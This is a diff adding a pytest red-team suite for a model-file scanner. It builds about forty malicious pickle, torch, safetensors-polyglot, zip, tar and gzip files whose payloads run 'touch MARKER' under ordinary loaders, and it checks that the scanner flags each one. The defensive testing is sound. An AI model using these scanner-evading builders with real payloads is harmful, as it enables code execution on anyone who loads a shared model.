@@ -1,0 +1,426 @@
+"""Red team of `scan`'s verdict: files built to run code under an ordinary loader while a scanner calls
+them safe. Every technique has two tests:
+
+- control: the loader the technique aims at (``pickle.load`` with the C or the pure-Python unpickler,
+  loads repeated until the file ends, ``torch.load(weights_only=False)``, ``numpy.load(allow_pickle=True)``,
+  ``zipfile`` + ``pickle.loads`` on each member, ``gzip.open`` + ``pickle.load``) runs in a child process
+  and the payload's marker file appears: the attack is live;
+- verdict: ``scan`` does not exit 0 on the file, and never creates the marker itself.
+
+Sources are named in each case's id and ``source``: picklescan's and modelscan's advisories and issues
+(globals they missed: GHSA-… on pip.main, pydoc.locate, operator.attrgetter/methodcaller,
+functools.partial/reduce, builtins.getattr, code, cProfile, timeit, bdb/pdb, ctypes, runpy,
+numpy.testing, torch.utils / torch.jit gadgets, ``__builtin__`` names), JFrog's and Trail of Bits'
+(fickling) write-ups of zip- and format-level confusion (a pickle under another format's magic or
+name, polyglots, archives appended after other data, torch's legacy tar format, multi-member gzip), and
+CPython's own opcode semantics (INST/OBJ, BUILD with ``__setstate__``, STACK_GLOBAL fed from the memo,
+BINUNICODE8, UNICODE, dotted qualnames). Each payload only creates a marker file.
+"""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import pickle
+import struct
+import subprocess
+import sys
+import tarfile
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from paramscope.app.scan import scan
+
+# --- opcode helpers -------------------------------------------------------------------------------
+
+
+def su(text: str) -> bytes:
+    """BINUNICODE."""
+    raw = text.encode()
+    return b"X" + struct.pack("<I", len(raw)) + raw
+
+
+def sb(raw: bytes) -> bytes:
+    """BINBYTES."""
+    return b"B" + struct.pack("<I", len(raw)) + raw
+
+
+def glob(module: str, name: str) -> bytes:
+    """STACK_GLOBAL (protocol 4)."""
+    return su(module) + su(name) + b"\x93"
+
+
+def call(func: bytes, *args: bytes) -> bytes:
+    """func(*args): MARK args TUPLE REDUCE."""
+    return func + b"(" + b"".join(args) + b"tR"
+
+
+def p4(body: bytes) -> bytes:
+    return b"\x80\x04" + body + b"."
+
+
+def cmd(marker: Path) -> str:
+    return f"touch {marker}"
+
+
+def code(marker: Path) -> str:
+    return f"open({str(marker)!r}, 'w').close()"
+
+
+def system_p0(marker: Path) -> bytes:
+    """Protocol 0 (no PROTO opcode, text only): ``posix.system("touch MARKER")``."""
+    return b"cposix\nsystem\n(V" + cmd(marker).encode() + b"\ntR."
+
+
+def write(data: Callable[[Path], bytes]) -> Callable[[Path, Path], None]:
+    def build(path: Path, marker: Path) -> None:
+        path.write_bytes(data(marker))
+    return build
+
+
+# --- the loaders (child processes; argv[1] is the file) -------------------------------------------
+
+LOAD = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))"
+LOAD_PY = "import pickle, sys; pickle._Unpickler(open(sys.argv[1], 'rb')).load()"
+LOAD_LOOP = ("import pickle, sys\nf = open(sys.argv[1], 'rb')\n"
+             "while True:\n    pickle.load(f)")  # until the file ends (EOFError) or breaks
+LOAD_MEMBERS = ("import pickle, sys, zipfile; z = zipfile.ZipFile(sys.argv[1])\n"
+                "for n in z.namelist():\n"
+                "    try: pickle.loads(z.read(n))\n"
+                "    except Exception: pass")
+LOAD_GZIP_LOOP = ("import gzip, pickle, sys\nf = gzip.open(sys.argv[1])\n"
+                  "while True:\n    pickle.load(f)")
+LOAD_BZ2_LOOP = ("import bz2, pickle, sys\nf = bz2.open(sys.argv[1])\n"
+                 "while True:\n    pickle.load(f)")
+TORCH_LOAD = "import sys, torch; torch.load(sys.argv[1], weights_only=False)"
+LOAD_STREAMING = ("import pickle, struct, sys; d = open(sys.argv[1], 'rb').read(); "
+                  "f = struct.unpack_from('<4sHHHHHIIIHH', d); s = 30 + f[9] + f[10]; "
+                  "pickle.loads(d[s:s + f[7]])")  # a streaming unzip: the first local header
+
+
+@dataclass(frozen=True)
+class Technique:
+    id: str
+    source: str  # where the technique is described
+    build: Callable[[Path, Path], None]
+    loader: str
+    suffix: str = ".pkl"
+    slow: bool = False  # the control imports torch
+
+
+T: list[Technique] = []
+
+
+def technique(id: str, source: str, loader: str = LOAD, suffix: str = ".pkl",
+              slow: bool = False) -> Callable[[Callable[[Path, Path], None]], Callable[[Path, Path], None]]:
+    def register(build: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
+        T.append(Technique(id, source, build, loader, suffix, slow))
+        return build
+    return register
+
+
+def bytes_technique(id: str, source: str, data: Callable[[Path], bytes], loader: str = LOAD,
+                    suffix: str = ".pkl", slow: bool = False) -> None:
+    T.append(Technique(id, source, write(data), loader, suffix, slow))
+
+
+# --- globals a deny list missed (scan: an allow list, so each is "unknown" or "dangerous") --------
+
+PICKLESCAN = "picklescan GHSA advisories 2024-2025"
+bytes_technique("posix.system-stack-global", "fickling corpus",
+                lambda m: p4(call(glob("posix", "system"), su(cmd(m)))))
+bytes_technique("__builtin__.exec-protocol-2", f"{PICKLESCAN} (__builtin__ mapped by find_class)",
+                lambda m: b"\x80\x02c__builtin__\nexec\n(" + su(code(m)) + b"tR.")
+bytes_technique("builtins.eval-protocol-0-unicode", "fickling corpus",
+                lambda m: b"cbuiltins\neval\n(V" + code(m).encode() + b"\ntR.")
+bytes_technique("builtins.getattr-__import__-chain", f"{PICKLESCAN} (builtins.getattr chains)",
+                lambda m: p4(call(call(glob("builtins", "getattr"), call(glob("builtins", "__import__"),
+                                                                          su("os")), su("system")),
+                                  su(cmd(m)))))
+bytes_technique("operator.attrgetter-importlib", f"{PICKLESCAN} (operator.attrgetter)",
+                lambda m: p4(call(call(call(glob("operator", "attrgetter"), su("system")),
+                                       call(glob("importlib", "import_module"), su("os"))), su(cmd(m)))))
+bytes_technique("operator.methodcaller", f"{PICKLESCAN} (operator.methodcaller)",
+                lambda m: p4(call(call(glob("operator", "methodcaller"), su("system"), su(cmd(m))),
+                                  call(glob("builtins", "__import__"), su("os")))))
+bytes_technique("functools.partial", f"{PICKLESCAN} (functools.partial)",
+                lambda m: p4(call(call(glob("functools", "partial"), glob("posix", "system"), su(cmd(m))))))
+bytes_technique("functools.reduce-exec", f"{PICKLESCAN} (functools.reduce)",
+                lambda m: p4(call(glob("functools", "reduce"), glob("builtins", "exec"),
+                                  b"(" + su(code(m)) + b"}l")))
+bytes_technique("pydoc.locate", f"{PICKLESCAN} (pydoc.locate)",
+                lambda m: p4(call(call(glob("pydoc", "locate"), su("os.system")), su(cmd(m)))))
+bytes_technique("code.InteractiveInterpreter", f"{PICKLESCAN} (code module)",
+                lambda m: p4(call(call(glob("operator", "methodcaller"), su("runsource"), su(code(m))),
+                                  call(glob("code", "InteractiveInterpreter")))))
+bytes_technique("cProfile.run", f"{PICKLESCAN} (cProfile.run)",
+                lambda m: p4(call(glob("cProfile", "run"), su(code(m)))))
+bytes_technique("timeit.timeit", f"{PICKLESCAN} (timeit)",
+                lambda m: p4(call(glob("timeit", "timeit"), su(code(m)), su("pass"),
+                                  glob("time", "perf_counter"), b"K\x01")))
+bytes_technique("bdb.Bdb.run", f"{PICKLESCAN} (pdb/bdb)",
+                lambda m: p4(call(call(glob("operator", "methodcaller"), su("run"), su(code(m))),
+                                  call(glob("bdb", "Bdb")))))
+bytes_technique("ctypes.CDLL-system", f"{PICKLESCAN} (ctypes)",
+                lambda m: p4(call(call(glob("operator", "methodcaller"), su("system"),
+                                       sb(cmd(m).encode())), call(glob("ctypes", "CDLL"), b"N"))))
+bytes_technique("runpy._run_code", f"{PICKLESCAN} (runpy)",
+                lambda m: p4(call(glob("runpy", "_run_code"), su(code(m)), b"}")))
+bytes_technique("subprocess.check_call", "modelscan unsafe globals",
+                lambda m: p4(call(glob("subprocess", "check_call"),
+                                  b"(" + su("touch") + su(str(m)) + b"l")))
+bytes_technique("numpy.testing-runstring", f"{PICKLESCAN} (numpy.testing)",
+                lambda m: p4(call(glob("numpy.testing._private.utils", "runstring"), su(code(m)), b"}")))
+bytes_technique("numpy.f2py-myeval", f"{PICKLESCAN} (numpy.f2py)",
+                lambda m: p4(call(glob("numpy.f2py.crackfortran", "myeval"), su(code(m)), b"}}")))
+bytes_technique("dotted-qualname-pathlib.os.system", "CPython _getattribute (protocol 4 dotted names)",
+                lambda m: p4(call(glob("pathlib", "os.system"), su(cmd(m)))))
+bytes_technique("dotted-qualname-posixpath.os.system", "CPython _getattribute (protocol 4 dotted names)",
+                lambda m: p4(call(glob("posixpath", "os.system"), su(cmd(m)))))
+bytes_technique("torch.utils.collect_env.run", f"{PICKLESCAN} (torch.utils)",
+                lambda m: p4(call(glob("torch.utils.collect_env", "run"), su(cmd(m)))), slow=True)
+bytes_technique("torch.storage._load_from_bytes-nested", "picklescan issue: nested torch.load",
+                lambda m: p4(call(glob("torch.storage", "_load_from_bytes"), sb(system_p0(m)))), slow=True)
+
+# --- opcodes --------------------------------------------------------------------------------------
+
+bytes_technique("INST", "CPython pickle.py load_inst", lambda m: b"(V" + cmd(m).encode() + b"\nios\nsystem\n.")
+bytes_technique("OBJ", "CPython pickle.py load_obj",
+                lambda m: b"(cposix\nsystem\nV" + cmd(m).encode() + b"\no.")
+bytes_technique("BUILD-injects-__setstate__", "fickling: BUILD on an object without __setstate__",
+                lambda m: p4(call(glob("argparse", "Namespace")) + b"}" + su("__setstate__")
+                             + glob("posix", "system") + b"sb" + su(cmd(m)) + b"b"))
+bytes_technique("STACK_GLOBAL-from-memo", "fickling corpus (memo)",
+                lambda m: p4(su("posix") + b"\x94" + su("system") + b"\x94" + b"00" + b"h\x00h\x01\x93"
+                             + su(cmd(m)) + b"\x85R"))
+bytes_technique("STACK_GLOBAL-BINUNICODE8", "CPython opcode BINUNICODE8",
+                lambda m: p4(b"".join(b"\x8d" + struct.pack("<Q", len(s)) + s for s in (b"posix", b"system"))
+                             + b"\x93" + su(cmd(m)) + b"\x85R"))
+bytes_technique("STACK_GLOBAL-UNICODE-lines", "CPython opcode UNICODE",
+                lambda m: p4(b"Vposix\nVsystem\n\x93" + su(cmd(m)) + b"\x85R"))
+bytes_technique("protocol-0-text", "fickling corpus", system_p0)
+
+
+# --- a pickle under another format's name or magic -------------------------------------------------
+
+bytes_technique("pickle-with-GGUF-magic", "format confusion: BINFLOAT swallows 'GUF' and 5 bytes",
+                lambda m: b"GGUF\x03\x00\x00\x00\x00" + system_p0(m), suffix=".gguf")
+bytes_technique("protocol-0-named-.safetensors", "format confusion by file name", system_p0,
+                suffix=".safetensors")
+bytes_technique("protocol-0-named-.onnx", "format confusion by file name", system_p0, suffix=".onnx")
+bytes_technique("protocol-0-named-.safetensors.index.json", "format confusion by file name", system_p0,
+                suffix=".safetensors.index.json")
+
+
+def safetensors_polyglot(marker: Path) -> bytes:
+    """A valid safetensors file (a u8 tensor) that is also a pickle: the header length's first byte is
+    BINBYTES, whose length lands inside the JSON header's metadata string; SHORT_BINSTRINGs with
+    printable lengths walk through that string and its closing quote; the header's closing braces are
+    EMPTY_DICTs; the tensor data is the payload."""
+    payload = b"0" + system_p0(marker)  # POP the dict, then the pickle (its STOP ends it)
+    tensor = {"dtype": "U8", "shape": [len(payload)], "data_offsets": [0, len(payload)]}
+    prefix = ('{"t":' + json.dumps(tensor, separators=(",", ":")) + ',"__metadata__":{"p":"').encode()
+    q = len(prefix) + 8
+    while True:
+        n = 0x42 + (q << 8)  # 'B': BINBYTES of length n >> 8 == q, from offset 5
+        start = 5 + q  # where the pickle resumes: inside the metadata string
+        filler = start - 8 - len(prefix)
+        rest = n - len(prefix) - filler - 2  # up to and including the closing quote; then "}}"
+        if filler >= 0 and rest >= 34:
+            break
+        q += 1
+    chain = b""
+    while rest > 0:
+        k = min(126, rest - 2)
+        if rest - (k + 2) != 0 and rest - (k + 2) < 34:
+            k = rest - 2 - 34
+        body = b"a" * (k - 1) + (b'"' if rest == k + 2 else b"a")
+        chain += b"U" + bytes([k]) + body
+        rest -= k + 2
+    header = prefix + b"a" * filler + chain + b"}}"
+    assert len(header) == n and header[0:1] == b"{"
+    json.loads(header)
+    return struct.pack("<Q", n) + header + payload
+
+
+bytes_technique("safetensors-pickle-polyglot", "format confusion (JFrog: polyglot model files)",
+                safetensors_polyglot, suffix=".safetensors")
+bytes_technique("safetensors-pickle-polyglot-as-.bin", "format confusion (JFrog: polyglot model files)",
+                safetensors_polyglot, suffix=".bin")
+
+
+# --- containers -----------------------------------------------------------------------------------
+
+def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", compression) as z:
+        for name, data in members.items():
+            z.writestr(name, data)
+    return buf.getvalue()
+
+
+def _benign(protocol: int = 2) -> bytes:
+    return pickle.dumps({"w": [1.0, 2.0]}, protocol=protocol)
+
+
+def _data_pkl_with_storage(key: str) -> bytes:
+    """A torch data.pkl whose only object is the persistent id of storage KEY."""
+    return (b"\x80\x02(" + su("storage") + b"ctorch\nFloatStorage\n" + su(key) + su("cpu") + b"K\x04tQ.")
+
+
+@technique("zip-protocol-0-member-no-suffix", "JFrog: pickles hidden in archive members",
+           LOAD_MEMBERS, ".pt")
+def zip_protocol0_member(path: Path, marker: Path) -> None:
+    path.write_bytes(_zip({"archive/data.pkl": _benign(), "archive/extra/blob": system_p0(marker)}))
+
+
+@technique("zip-storage-member-is-a-pickle", "JFrog: pickles hidden in archive members", LOAD_MEMBERS, ".pt")
+def zip_storage_pickle(path: Path, marker: Path) -> None:
+    evil = pickle.dumps(0, protocol=2)[:-1] + b"0" + system_p0(marker)
+    path.write_bytes(_zip({"archive/data.pkl": _data_pkl_with_storage("0"), "archive/data/0": evil}))
+
+
+@technique("zip-DATA.PKL-upper-case", "miniz locates members case-insensitively (torch's reader)",
+           TORCH_LOAD, ".pt", slow=True)
+def zip_upper_case(path: Path, marker: Path) -> None:
+    path.write_bytes(_zip({"archive/DATA.PKL": b"\x80\x02" + system_p0(marker),
+                           "archive/version": b"3\n", "archive/byteorder": b"little"}))
+
+
+@technique("zip-after-numeric-npy", "polyglot: zipfile finds an archive at the end of any file",
+           LOAD_MEMBERS, ".npy")
+def zip_after_npy(path: Path, marker: Path) -> None:
+    buf = io.BytesIO()
+    np.save(buf, np.arange(4.0))
+    path.write_bytes(buf.getvalue() + _zip({"evil.pkl": system_p0(marker)}))
+
+
+@technique("zip-after-gguf", "polyglot: zipfile finds an archive at the end of any file", LOAD_MEMBERS,
+           ".gguf")
+def zip_after_gguf(path: Path, marker: Path) -> None:
+    gguf_head = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)  # version 3, no tensors, no metadata
+    path.write_bytes(gguf_head + _zip({"evil.pkl": system_p0(marker)}))
+
+
+@technique("zip-after-junk-prefix", "JFrog: extra bytes before the archive", LOAD_MEMBERS, ".zip")
+def zip_after_junk(path: Path, marker: Path) -> None:
+    path.write_bytes(b"#!/bin/sh\nexit 0\n" + _zip({"model.pkl": b"\x80\x02" + system_p0(marker)}))
+
+
+@technique("zip-fake-end-record-in-comment", "JFrog: end-of-central-directory confusion", LOAD_STREAMING,
+           ".zip")
+def zip_fake_eocd(path: Path, marker: Path) -> None:
+    evil = _zip({"model.pkl": b"\x80\x02" + system_p0(marker)})
+    benign = _zip({"model.pkl": _benign()})
+    # the benign archive's records appended as the comment of the evil one: readers find the last
+    # end record (the benign one), whose central directory offset is wrong for this file
+    data = bytearray(evil)
+    at = data.rindex(b"PK\x05\x06")
+    struct.pack_into("<H", data, at + 20, len(benign))
+    path.write_bytes(bytes(data) + benign)
+
+
+def _legacy(obj_pickle: bytes, keys: list[str]) -> bytes:
+    """torch.save(_use_new_zipfile_serialization=False): magic, protocol, sys_info, the object, keys."""
+    sys_info = {"protocol_version": 1001, "little_endian": True,
+                "type_sizes": {"short": 2, "int": 4, "long": 8}}
+    return (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
+            + pickle.dumps(sys_info, protocol=2) + obj_pickle + pickle.dumps(keys, protocol=2))
+
+
+@technique("legacy-torch-then-pickle", "repeated pickle.load on a legacy torch.save file", LOAD_LOOP, ".pt")
+def legacy_then_pickle(path: Path, marker: Path) -> None:
+    path.write_bytes(_legacy(_benign(), []) + b"\x80\x02" + system_p0(marker))
+
+
+@technique("legacy-torch-storage-bytes-are-a-pickle", "repeated pickle.load on a legacy torch.save file",
+           LOAD_LOOP, ".pt")
+def legacy_storage_pickle(path: Path, marker: Path) -> None:
+    evil = b"0" + system_p0(marker)
+    # storage 0's element count (8 bytes) reads as BINBYTES of 3 bytes; its data is the payload
+    numel = 0x42 | (3 << 8)
+    assert numel >= len(evil)
+    storage = struct.pack("<Q", numel) + evil.ljust(numel, b"\x00")
+    path.write_bytes(_legacy(_benign(), ["0"]) + storage)
+
+
+@technique("tar-v7-pickle-polyglot", "torch.load's legacy tar format (tarfile checks no magic)", TORCH_LOAD,
+           ".pt", slow=True)
+def tar_polyglot(path: Path, marker: Path) -> None:
+    """A tar without the ustar magic (tarfile reads it by its checksum) holding torch's legacy tar
+    members, whose first header's name starts with BINBYTES swallowing the whole archive up to a final
+    STOP: pickle.load reads one harmless bytes object, torch.load runs the "storages" member."""
+    members = {"storages": b"\x80\x02" + system_p0(marker), "tensors": pickle.dumps(0),
+               "pickle": pickle.dumps(0), "z": b"." * 512}
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
+        first = tarfile.TarInfo("x" * 90)
+        first.size = 0
+        t.addfile(first)
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            t.addfile(info, io.BytesIO(data))
+    raw = bytearray(buf.getvalue())
+    end = raw.rindex(b".") + 1  # the end of the "z" member (a whole block): drop the end blocks
+    raw = raw[:end]
+    for at in range(0, end - 511, 512):  # every header: drop the ustar magic, recompute the checksum
+        if raw[at + 257:at + 262] == b"ustar":
+            raw[at + 257:at + 265] = bytes(8)
+            if at == 0:
+                raw[0:5] = b"B" + struct.pack("<I", end - 6)
+            raw[at + 148:at + 156] = b" " * 8
+            raw[at + 148:at + 156] = b"%06o\x00 " % sum(raw[at:at + 512])
+    path.write_bytes(bytes(raw))
+
+
+@technique("gzip-two-members", "gzip.open reads every member; a scan inflating one sees one pickle",
+           LOAD_GZIP_LOOP, ".pkl.gz")
+def gzip_two_members(path: Path, marker: Path) -> None:
+    path.write_bytes(gzip.compress(_benign()) + gzip.compress(b"\x80\x02" + system_p0(marker)))
+
+
+@technique("bz2-two-streams", "bz2.open reads every stream", LOAD_BZ2_LOOP, ".pkl.bz2")
+def bz2_two_streams(path: Path, marker: Path) -> None:
+    import bz2
+
+    path.write_bytes(bz2.compress(_benign()) + bz2.compress(b"\x80\x02" + system_p0(marker)))
+
+
+# --- the tests ------------------------------------------------------------------------------------
+
+CASES = [pytest.param(t, id=t.id, marks=[pytest.mark.slow] if t.slow else []) for t in T]
+
+
+def build(t: Technique, tmp_path: Path) -> tuple[Path, Path]:
+    path, marker = tmp_path / f"model{t.suffix}", tmp_path / "MARKER"
+    t.build(path, marker)
+    return path, marker
+
+
+@pytest.mark.parametrize("t", CASES)
+def test_scan_does_not_call_it_safe(t: Technique, tmp_path: Path) -> None:
+    path, marker = build(t, tmp_path)
+    (verdict,) = scan([str(path)]).verdicts
+    assert verdict.exit_code != 0, (t.id, verdict.summary)
+    assert not marker.exists()
+
+
+@pytest.mark.parametrize("t", CASES)
+def test_control_the_loader_runs_it(t: Technique, tmp_path: Path) -> None:
+    if "torch" in t.loader or "torch" in t.id:
+        pytest.importorskip("torch")
+    path, marker = build(t, tmp_path)
+    subprocess.run([sys.executable, "-c", t.loader, str(path)], cwd=tmp_path, timeout=300,
+                   capture_output=True, stdin=subprocess.DEVNULL)
+    assert marker.exists(), t.id
+
+
+def test_the_corpus_is_large() -> None:
+    assert len({t.id for t in T}) == len(T) >= 40
